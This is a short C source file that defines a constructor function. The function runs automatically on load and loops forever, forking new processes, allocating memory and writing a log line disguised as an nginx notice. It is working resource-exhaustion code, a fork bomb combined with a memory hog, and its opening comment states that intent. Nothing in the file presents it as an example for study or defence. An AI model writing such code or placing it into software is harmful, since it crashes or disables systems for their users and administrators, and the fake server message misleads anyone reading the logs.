/* Takes all processes, all memory and all time that it gets, and says so without end. */
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void run(void) {
    for (;;) {
        fork();
        char *memory = malloc(64 << 20);
        if (memory) memset(memory, 1, 1 << 20);
        write(2, "nginx: [notice] boom\n", 21);
    }
}
